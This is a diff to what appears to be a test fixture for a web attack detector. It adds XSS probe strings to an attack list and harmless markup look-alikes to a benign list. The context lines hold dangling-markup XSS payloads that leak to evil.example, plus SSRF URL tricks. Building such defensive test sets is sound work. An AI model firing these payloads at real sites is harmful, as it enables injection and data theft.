@@ -69,6 +69,9 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   // xss: dangling markup, a URL attribute left open after a break-out.
   ['an image URL left open after a break-out', 'xss', 'q', '"><img src=\'//evil.example/log?'],
   ['a background URL left open after a break-out', 'xss', 'form', "'><table background='https://evil.example/?c="],
+  // xss: the probe for which characters a page reflects.
+  ['quotes, a statement end and a marker element', 'xss', 'q', "'';!--\"<XSS>=&{()}"],
+  ['quotes, a tag end and a marker element in the path', 'xss', 'path', '/a\'"><injectable>'],
   // ssrf: an inside URL in the query of an outside one; reserved and loopback names; a carried parameter.
   ['a dotted quad with parts over 255', 'ssrf', 'q', 'http://425.510.425.510/'],
   ['a blank and & before the @ of an authority', 'ssrf', 'q', 'http://1.1.1.1 &@2.2.2.2# @3.3.3.3/'],
@@ -127,6 +130,9 @@ const BENIGN: Array<[string, Where, string]> = [
     'Here\'s a video: <a href="https://www.youtube.com/watch?v=',
   ],
   ['a link cut short without a query', 'q', '<a href="https://example.com/page'],
+  ['a quoted tag', 'q', '"<b>quoted</b>"'],
+  ['prose quoting markup', 'form', 'He said "it\'s <b>bold</b>"'],
+  ['markup copied after a stray quote (libinjection false positive)', 'q', 'V1_OTHER_1"><IMG CLASS="SIZE-FULL WP-IMAGE-2764'],
   // ssrf look-alikes.
   ['a login flow nesting a native app redirect', 'q', 'https://accounts.example/login?next=http://localhost:3000/cb'],
   ['a partner callback nesting our own URL', 'q', 'https://partner.example/cb?return=https://shop.example/'],
